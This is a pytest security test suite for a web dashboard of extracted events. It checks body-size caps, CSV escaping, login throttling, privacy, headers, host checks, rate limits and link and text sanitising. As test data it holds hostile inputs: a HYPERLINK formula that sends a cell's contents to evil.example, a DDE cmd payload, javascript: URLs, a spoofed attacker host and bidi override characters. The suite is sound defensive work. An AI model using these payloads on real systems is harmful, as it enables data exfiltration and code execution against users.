"""The web server as an attacker probes it (issue 15): streamed body cap, CSV formula injection, login backoff
and constant-time refusal, privacy of analysts' names, clean 4xx on bad paging, security headers, Secure
cookies and allowed hosts behind a proxy, Retry-After, static files outside the rate limit, bidi controls
neutralised, only http(s) links."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from flashpoint.errors import ConfigError
from flashpoint.export import csv_cell, rows_to_csv
from flashpoint.ingest import ingest
from flashpoint.nlp.pipeline import Extractor
from flashpoint.store import open_store, schema
from flashpoint.store.events import update_events
from flashpoint.store.extractions import save_extraction
from flashpoint.store.review import add_user
from flashpoint.web import app as app_module
from flashpoint.web.app import create_app
from flashpoint.web.security import BodyLimit, LoginThrottle, TextGuard, http_url, neutralise
from tests.web.conftest import build_store

FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ANALYST = "zed-the-analyst"
DOM_JS = Path(__file__).resolve().parents[2] / "web" / "src" / "lib" / "dom.js"  # the dashboard's DOM helpers


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("security")
    path = build_store(folder)
    store = open_store(path)
    extra = folder / "attacks.jsonl"
    extra.write_text("\n".join(json.dumps(r) for r in [
        {"id": FORMULA_ID, "url": "https://news.example.org/f", "published": "2024-03-06", "title": "Formula",
         "text": "Rockets hit Camp Falcon in Baghdad on Tuesday, wounding 4 U.S. soldiers, officials said. "
                 "Kataib Hezbollah claimed responsibility."},
        {"id": "bidi-1", "url": "https://news.example.org/b", "published": "2024-03-09", "title": "Bidi \u202etitle",
         "text": "A drone struck Tower 22 in Jordan on Friday, wounding \u202e21 U.S. troops\u202c, officials said. "
                 "Kataib Hezbollah claimed the attack."},
    ]) + "\n")
    ex = Extractor()
    s = ingest([str(extra)], store, after_save=lambda d, c: save_extraction(c, d.uid, ex(d)))
    assert s.failed == 0, [e.one_line() for e in s.errors]
    update_events(store.engine)
    with store.engine.begin() as c:  # a store written before ingest refused such URLs
        c.execute(schema.documents.update().where(schema.documents.c.doc_id == "bidi-1").values(url="javascript:alert(1)"))
    add_user(store.engine, ANALYST, "analyst-pass", "analyst")
    return path


@pytest.fixture
def client(db: str) -> TestClient:
    return TestClient(create_app(db))


def login(c: TestClient, user: str = ANALYST, password: str = "analyst-pass") -> dict[str, str]:
    r = c.post("/api/login", json={"username": user, "password": password})
    assert r.status_code == 200, r.text
    return {"X-CSRF-Token": r.json()["csrf"]}


def event_with(c: TestClient, text: str) -> dict[str, Any]:
    for e in c.get("/api/events", params={"per_page": 500}).json()["items"]:
        detail = c.get(f"/api/events/{e['id']}").json()
        if any(text in (m.get("doc_id") or "") for m in detail.get("mentions") or []):
            return detail  # type: ignore[no-any-return]
    raise AssertionError(f"no event from {text}")


# -- request bodies ---------------------------------------------------------------------------------------------
def test_a_chunked_body_is_cut_off_at_the_cap_without_being_read() -> None:
    reached: list[str] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        reached.append("app")

    sent: list[dict[str, Any]] = []
    reads = 0

    async def receive() -> dict[str, Any]:  # 100 MB in 64 KB chunks, produced only as read
        nonlocal reads
        reads += 1
        return {"type": "http.request", "body": b"x" * 65536, "more_body": reads < 1600}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": "/api/events/x/review",
             "headers": [(b"transfer-encoding", b"chunked"), (b"content-type", b"application/json")]}
    asyncio.run(BodyLimit(app, limit=64 * 1024)(scope, receive, send))
    assert reached == [] and reads <= 2 and sent[0]["status"] == 413
    assert json.loads(sent[1]["body"])["error"]["code"] == "too_large"


def test_over_long_bodies_get_413_however_they_are_sent(client: TestClient) -> None:
    def chunks() -> Iterator[bytes]:
        for _ in range(40):
            yield b'{"username": "' + b"x" * 4096

    r = client.post("/api/login", content=chunks(), headers={"Content-Type": "application/json"})
    assert r.status_code == 413 and r.json()["error"]["code"] == "too_large"
    h = login(client)
    ev = client.get("/api/events").json()["items"][0]["id"]
    big = {"action": "correct", "field": "location", "value": "v" * 200_000, "reason": "a multi-MB value"}
    r = client.post(f"/api/events/{ev}/review", json=big, headers=h)
    assert r.status_code == 413
    r = client.post("/api/login", content=b"{}", headers={"Content-Type": "application/json", "Content-Length": "abc"})
    assert r.status_code == 400


# -- CSV ---------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", FORMULA_ID])
def test_formula_cells_are_escaped(cell: str) -> None:
    text = rows_to_csv([{"a": cell, "b": -3.5, "c": 7}])
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row == ["'" + cell, "-3.5", "7"]
    assert csv_cell("plain text") == "plain text" and csv_cell(-1) == -1


def test_every_csv_the_api_writes_is_escaped(client: TestClient) -> None:
    h = login(client)
    ev = event_with(client, FORMULA_ID)
    r = client.post(f"/api/events/{ev['id']}/review", headers=h,
                    json={"action": "correct", "field": "location", "value": "=cmd|' /C calc'!A0", "reason": "probe"})
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(client.get("/api/events.csv").text)))
    cells = [v for row in rows for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r" and not v.lstrip("-").replace(".", "").isdigit()], cells
    assert any(v.startswith("'=HYPERLINK") for v in cells) and any(v == "'=cmd|' /C calc'!A0" for v in cells)


# -- login -----------------------------------------------------------------------------------------------------
class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_logins_back_off_per_account_then_recover(db: str) -> None:
    app = create_app(db)
    clock = Clock()
    app.state.login_throttle = LoginThrottle(clock)
    c = TestClient(app)
    codes = [c.post("/api/login", json={"username": ANALYST, "password": f"wrong-{i}"}).status_code for i in range(60)]
    assert codes[:5] == [401] * 5 and set(codes[6:]) == {429}
    r = c.post("/api/login", json={"username": ANALYST, "password": "analyst-pass"})
    assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1  # the right password waits too
    clock.now += LoginThrottle.MAX_WAIT_S + 1
    assert c.post("/api/login", json={"username": ANALYST, "password": "analyst-pass"}).status_code == 200


def test_the_throttle_counts_per_account_and_per_client() -> None:
    clock = Clock()
    t = LoginThrottle(clock)
    for i in range(LoginThrottle.FREE_FAILURES + 1):
        t.failed("ana", f"10.0.0.{i}")  # one account from many clients
    assert t.wait("ana", "10.9.9.9") > 0 and t.wait("bob", "10.9.9.9") == 0
    for i in range(LoginThrottle.FREE_FAILURES + 1):
        t.failed(f"user{i}", "10.1.1.1")  # many accounts from one client
    assert t.wait("someone", "10.1.1.1") > 0
    waits = []
    for _ in range(12):
        clock.now += 10_000
        t.failed("carl", "10.2.2.2")
    for _ in range(10):
        t.failed("dora", "10.3.3.3")
        waits.append(t.wait("dora", "10.3.3.4"))
    assert waits[4] == 1 and waits[5] == 2 and waits[8] == 16 and max(waits) <= LoginThrottle.MAX_WAIT_S
    t.succeeded("dora", "10.3.3.3")
    assert t.wait("dora", "10.3.3.3") == 0


def test_unknown_and_known_names_cost_the_same(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[int] = []
    real = hashlib.scrypt

    def counting(*a: Any, **k: Any) -> bytes:
        calls.append(1)
        return real(*a, **k)

    c = TestClient(create_app(db))
    c.post("/api/login", json={"username": "nobody", "password": "warm-up-the-decoy"})
    monkeypatch.setattr(hashlib, "scrypt", counting)
    known = c.post("/api/login", json={"username": ANALYST, "password": "wrong-password"})
    n_known = len(calls)
    unknown = c.post("/api/login", json={"username": "no-such-user", "password": "wrong-password"})
    assert known.status_code == unknown.status_code == 401 and known.json() == unknown.json()
    assert n_known == 1 and len(calls) == 2  # one password hash each: the same work, the same time


# -- privacy ---------------------------------------------------------------------------------------------------
def test_anonymous_readers_never_see_analysts_names(db: str) -> None:
    c = TestClient(create_app(db))
    h = login(c)
    ev = c.get("/api/events").json()["items"][1]["id"]
    assert c.post(f"/api/events/{ev}/review", json={"action": "confirm", "reason": "checked the sources"},
                  headers=h).status_code == 200
    assert ANALYST in c.get(f"/api/events/{ev}").text  # a logged-in reader sees who reviewed
    anon = TestClient(create_app(db))
    for path in (f"/api/events/{ev}", "/api/events?per_page=500", "/api/events.csv", "/api/events.geojson"):
        r = anon.get(path)
        assert r.status_code == 200 and ANALYST not in r.text, path
    detail = anon.get(f"/api/events/{ev}").json()
    assert detail["review"]["status"] == "confirmed" and detail["audit"] and "username" not in detail["audit"][0]


# -- bad parameters and internal errors ---------------------------------------------------------------------------
@pytest.mark.parametrize("query", ["page=99999999999999999999", "min_sources=1e20", "page=-1", "per_page=0",
                                   "page=abc", "per_page=100000", "min_sources=99999999999999999999999"])
def test_bad_paging_gives_a_clean_4xx_json_error(client: TestClient, query: str) -> None:
    for path in ("/api/events", "/api/documents", "/api/links", "/api/tallies"):
        r = client.get(f"{path}?{query}")
        if "min_sources" in query and path != "/api/events":
            continue
        assert 400 <= r.status_code < 500 and r.headers["content-type"].startswith("application/json"), (path, r.text)
        assert r.json()["error"]["message"]


def test_an_internal_error_is_a_json_500(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import flashpoint.web.routes as routes

    def broken(*a: Any, **k: Any) -> Any:
        raise RuntimeError("boom")

    monkeypatch.setattr(routes, "reviewed_event", broken)
    c = TestClient(create_app(db), raise_server_exceptions=False)
    r = c.get("/api/events/anything")
    assert r.status_code == 500 and r.json()["error"]["code"] == "internal"


# -- headers, cookies, hosts, rate limit ----------------------------------------------------------------------------
def test_security_headers_on_every_answer(client: TestClient) -> None:
    for path in ("/", "/static/index.html", "/api/events", "/api/nothing", "/event/x"):
        r = client.get(path)
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"], path
        assert r.headers["x-frame-options"] == "DENY" and r.headers["referrer-policy"] == "same-origin"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert "strict-transport-security" not in r.headers


def test_behind_a_tls_proxy_cookies_are_secure(db: str) -> None:
    plain = TestClient(create_app(db)).post("/api/login", json={"username": ANALYST, "password": "analyst-pass"})
    assert "secure" not in plain.headers["set-cookie"].lower()
    c = TestClient(create_app(db, behind_proxy=True))
    r = c.post("/api/login", json={"username": ANALYST, "password": "analyst-pass"})
    cookie = r.headers["set-cookie"].lower()
    assert "secure" in cookie and "httponly" in cookie and "samesite=strict" in cookie
    assert r.headers["strict-transport-security"].startswith("max-age=")


def test_only_allowed_host_names_are_answered(db: str) -> None:
    c = TestClient(create_app(db, allowed_hosts=["events.example.org", "localhost"]), base_url="http://events.example.org")
    assert c.get("/api/events").status_code == 200
    assert c.get("/api/events", headers={"Host": "localhost:8765"}).status_code == 200
    r = c.get("/api/events", headers={"Host": "attacker.example"})
    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_host"
    assert r.headers["x-frame-options"] == "DENY"


def test_serve_names_its_hosts() -> None:
    from flashpoint.cli_web import serve_hosts

    assert serve_hosts("127.0.0.1", ()) == ["localhost", "127.0.0.1", "::1"]
    assert serve_hosts("10.0.0.5", ("events.example.org",)) == ["localhost", "127.0.0.1", "::1", "10.0.0.5",
                                                                 "events.example.org"]
    with pytest.raises(ConfigError, match="--allowed-host"):
        serve_hosts("0.0.0.0", ())
    assert "events.example.org" in serve_hosts("::", ("events.example.org",))


def test_rate_limit_says_when_and_skips_static_files(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(app_module, "RATE_PER_MINUTE", 5)
    c = TestClient(create_app(db))
    assert {c.get("/static/index.html").status_code for _ in range(20)} == {200}
    assert {c.get("/").status_code for _ in range(10)} == {200}
    codes = [c.get("/api/links").status_code for _ in range(6)]
    assert codes == [200] * 5 + [429]
    r = c.get("/api/links")
    assert r.status_code == 429 and 1 <= int(r.headers["Retry-After"]) <= 60


# -- displayed text and links ------------------------------------------------------------------------------------------
def test_bidi_controls_never_reach_the_reader(client: TestClient, db: str) -> None:
    ev = event_with(client, "bidi-1")
    text = json.dumps(ev, ensure_ascii=False)
    assert "\u202e" not in text and "\ufffd21 U.S. troops" in text
    for path in ("/api/documents/bidi-1", "/api/events.csv", "/api/events.geojson", "/api/events?per_page=500"):
        body = client.get(path).content.decode()
        assert "\u202e" not in body and "\u202c" not in body, path
    assert "\u202e" in open_store(db).document("bidi-1").body  # the store keeps the report as it was


def test_the_text_guard_handles_controls_split_across_chunks() -> None:
    body = "wounding \u202e21\u202c troops \u061c, \u2066x\u2069".encode()

    async def app(scope: Any, receive: Any, send: Any) -> None:
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/csv")]})
        for i in range(len(body)):  # one byte at a time
            await send({"type": "http.response.body", "body": body[i:i + 1], "more_body": i < len(body) - 1})

    out: list[dict[str, Any]] = []

    async def send(m: dict[str, Any]) -> None:
        out.append(m)

    asyncio.run(TextGuard(app)({"type": "http"}, None, send))  # type: ignore[arg-type]
    got = b"".join(m.get("body", b"") for m in out[1:]).decode()
    assert got == neutralise(body.decode()) == "wounding \ufffd21\ufffd troops \ufffd, \ufffdx\ufffd"


def test_only_http_links(client: TestClient) -> None:
    assert client.get("/api/documents/bidi-1").json()["url"] is None
    assert all(m["url"] is None or m["url"].startswith("http") for m in event_with(client, "bidi-1")["mentions"])
    assert http_url("javascript:alert(1)") is None and http_url("data:text/html,x") is None
    assert http_url(" JaVaScRiPt:alert(1)") is None and http_url("https://a.example/x") == "https://a.example/x"


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_the_dashboard_renders_only_http_links_and_neutral_text(tmp_path: Path) -> None:
    script = tmp_path / "t.mjs"
    script.write_text("""
const made = [];
const fake = (tag) => ({ tag, attrs: {}, setAttribute(k, v) { this.attrs[k] = v; }, addEventListener() {},
  appendChild(c) { this.textContent = (this.textContent || "") + (c.text ?? c.textContent ?? ""); } });
global.document = { createElement: (tag) => { const n = fake(tag); made.push(n); return n; },
  createTextNode: (text) => ({ text }) };
const { el } = await import(process.argv[2]);
const out = [];
for (const href of ["javascript:alert(1)", " JAVASCRIPT:x", "data:text/html,x", "//evil.example/x", "vbscript:x",
                    "https://news.example.org/a", "/event/e1"]) {
  out.push(el("a", { href, onclick: "x()" }, "link").attrs);
}
out.push(el("span", {}, "wounding \\u202e21\\u202c troops").textContent);
console.log(JSON.stringify(out));
""")
    got = json.loads(subprocess.run(["node", str(script), DOM_JS.as_uri()], capture_output=True, text=True,
                                   check=True).stdout)
    assert got[:5] == [{}, {}, {}, {}, {}]
    assert got[5] == {"href": "https://news.example.org/a"} and got[6] == {"href": "/event/e1"}
    assert got[7] == "wounding \ufffd21\ufffd troops"


@pytest.mark.parametrize("body", [b'{"action": "merge", "value": "\\ud800", "reason": "x"}',
                                  b'{"username": "\\udfff", "password": "x"}', b"[" * 30000 + b"]" * 30000,
                                  b"\xff\xfe{", b'{"action": 1e999}'])
def test_unencodable_or_nested_bodies_get_a_4xx(client: TestClient, body: bytes) -> None:
    """Found by fuzzing: a lone surrogate in a review value was a 500 (PydanticSerializationError)."""
    h = login(client)
    ev = client.get("/api/events").json()["items"][0]["id"]
    for path in (f"/api/events/{ev}/review", "/api/login"):
        r = client.post(path, content=body, headers={**h, "Content-Type": "application/json"})
        assert 400 <= r.status_code < 500 and r.json()["error"]["message"], (path, r.text)
